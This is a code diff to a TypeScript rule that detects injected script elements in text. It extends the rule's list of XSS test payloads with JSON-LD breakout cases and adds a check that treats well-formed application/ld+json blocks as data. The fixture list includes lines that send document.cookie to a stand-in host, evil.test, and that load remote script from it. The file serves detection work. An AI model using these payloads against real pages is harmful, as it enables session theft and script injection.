@@ -34,12 +34,14 @@ export const scriptElement: ValueRule = {
     '<script>alert(1)</script>',
     'Nice page!<ScRiPt\n>top.location="//evil.test/"+document.cookie</sCrIpT>',
     '"><script src=//evil.test/x.js>',
-    "<svg><script xlink:href='data:,steal()'></script></svg>",
-    '</title><script>a=/x/.source',
-    '</title><script src="/js/app.js"></script>',
-    '--><script src="app.js"></script>',
-    'see `<script>`+alert(1)+`</script>',
-    '`<script>`;alert(1)//`',
+    ...["<svg><script xlink:href='data:,steal()'></script></svg>", '</title><script>a=/x/.source'],
+    ...['</title><script src="/js/app.js"></script>', '--><script src="app.js"></script>'],
+    ...['see `<script>`+alert(1)+`</script>', '`<script>`;alert(1)//`'],
+    ...[
+      '<script type="application/ld+json">{}</script><script>alert(1)</script>',
+      "<script type=module type='application/ld+json'>alert(1)</script>",
+    ],
+    '<script type="application/ld+json">{"a":"<!--</script><script>alert(1)</script>"}',
   ],
   lookalikes: [
     {
@@ -58,6 +60,7 @@ export const scriptElement: ValueRule = {
     '<p class="lead"><script src="app.js"></script></p>',
     'Place one of the `<script>`s near the end, right before the closing `</body>` tag.',
     'For direct use via `<script src="...">` in the browser.',
+    '<p>Opens at 9.</p><script type="application/ld+json">{"@context":"https://schema.org","@type":"Event","name":"O\'Brien & Co"}</script>',
   ],
 };
 
@@ -94,13 +97,28 @@ function scoreOf(subject: Subject, tag: HtmlTag): number {
       ? confidence.hint
       : confidence.certain;
   }
-  if (isCodeSpan(subject, tag)) return confidence.trace;
+  if (isCodeSpan(subject, tag) || isLinkedData(text, tag)) return confidence.trace;
   const isBreakout = followsBreakout(text, tag.start);
   if (tag.isClosed || tag.contentEnd < text.length) return scoreOfContent(subject, tag, isBreakout);
   const isPrefixed =
     (text.charCodeAt(tag.start + 1) | 32) !== 115 && text.startsWith(':', tag.end - 7);
   return isBreakout || isPrefixed ? confidence.strong : confidence.hint;
 }
+
+/**
+ * `<script type="application/ld+json">{"@type": …}</script>`: what search engines read of a page. Of this type it is
+ * data to every browser (HTML, 4.12.1), as long as no other markup stands in it.
+ */
+function isLinkedData(text: string, tag: HtmlTag): boolean {
+  return (
+    linkedData.test(text.slice(tag.start, tag.end)) &&
+    data.test(text.slice(tag.end, tag.contentEnd)) &&
+    text.startsWith('</script>', tag.contentEnd)
+  );
+}
+
+const linkedData = /^<script type=(["'])application\/ld\+json\1>$/i;
+const data = /^\s*[{[][^<]*[}\]]\s*$/;
 
 function scoreOfContent(subject: Subject, tag: HtmlTag, isBreakout: boolean): number {
   const { text } = subject;
